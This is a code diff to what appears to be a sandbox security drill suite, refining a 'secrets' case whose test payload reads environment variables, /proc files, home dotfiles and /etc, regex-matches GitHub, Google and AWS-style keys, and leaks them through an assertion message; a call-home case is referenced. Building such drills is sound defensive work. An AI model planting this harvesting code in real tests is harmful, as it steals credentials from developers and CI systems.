@@ -67,14 +67,15 @@ def _added(path: str, mode: str, text: str) -> str:
 
 
 _LOOT = """
-import glob, os
-seen = [repr(dict(os.environ))]
+import glob, os, re
+texts = [repr(dict(os.environ))]
 places = ["/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/root/.*", "/home/*/.*", "/job/*", "/run/*", "/etc/*"]
 for path in [path for place in places for path in glob.glob(place)]:
     try:
-        seen.append(open(path, errors="replace").read(100_000))
+        texts.append(open(path, errors="replace").read(100_000))
     except OSError:
         pass
+seen = sorted(set(re.findall("(?:ghp_|AIza|wJalr)[0-9a-f]{30,}", " ".join(texts))))
 """
 _REACH = """
 import socket
@@ -186,7 +187,7 @@ CASES: tuple[DrillCase, ...] = (
     _policy("outside-prefix", "a change beside the folder that was allowed", repository={"path_prefix": "tests"}),
     DrillCase(
         name="secrets", about="a test that collects environment, processes and files", layer="sandbox",
-        files=_attacking_test(_LOOT, ending='    raise AssertionError("loot: " + " ".join(seen)[-15000:])\n'),
+        files=_attacking_test(_LOOT, ending='    raise AssertionError("loot: " + " ".join(seen))\n'),
     ),
     DrillCase(
         name="network", about="a test that calls home", layer="sandbox", passes=True, files=_attacking_test(_REACH)
